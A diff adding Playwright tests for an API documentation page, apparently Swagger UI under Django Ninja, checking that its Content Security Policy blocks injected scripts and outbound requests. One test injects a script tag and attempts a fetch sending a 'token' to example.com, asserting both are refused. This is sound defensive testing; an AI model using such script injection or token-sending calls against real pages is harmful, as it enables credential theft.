@@ -107,6 +107,23 @@ def test_it_is_served_from_here(page: Page, site: Up, seen: Seen) -> None:
     assert f"http://127.0.0.1:{site.port}/static/ninja/swagger-ui-bundle.js" in seen.urls
 
 
+def test_what_is_written_into_the_page_does_not_run(page: Page, seen: Seen) -> None:
+    """Nor can it send anything elsewhere: a token would be worth it."""
+    Docs(page).authorize.wait_for()
+    page.evaluate("""() => {
+        const script = document.createElement("script");
+        script.text = "window.hasRun = true";
+        document.body.append(script);
+    }""")
+    assert page.evaluate("window.hasRun") is None
+    sent = "fetch('https://example.com/?token').then(() => 'sent', () => 'refused')"
+    assert page.evaluate(sent) == "refused"
+    told = [text for text in seen.complaints if "Content Security Policy" in text]
+    for directive in ("script-src", "connect-src"):
+        assert any(directive in text for text in told), seen.complaints
+    seen.complaints.clear()
+
+
 def test_the_dialog_offers_what_there_is(page: Page) -> None:
     """Each scope with what it allows, nothing chosen; the cookie of a session as well."""
     docs = Docs(page)
@@ -138,6 +155,16 @@ def test_users_are_read_and_made(page: Page, site: Up) -> None:
     assert shown.body == {"id": shown.body["id"], "name": "Ann", "email": "ann@example.com"}
     assert f"location: /api/users/{shown.body['id']}" in shown.headers
     assert shown.body in docs.execute("list_users").body
+
+
+def test_bodies_are_filled_in(page: Page) -> None:
+    """With what would be accepted as it is."""
+    block = Docs(page).operation("create_user")
+    assert json.loads(block.locator("textarea").input_value()) == {
+        "name": "Ann",
+        "email": "ann@example.com",
+        "password": "correct horse battery",
+    }
 
 
 def test_too_few_scopes_and_none(page: Page, site: Up) -> None:
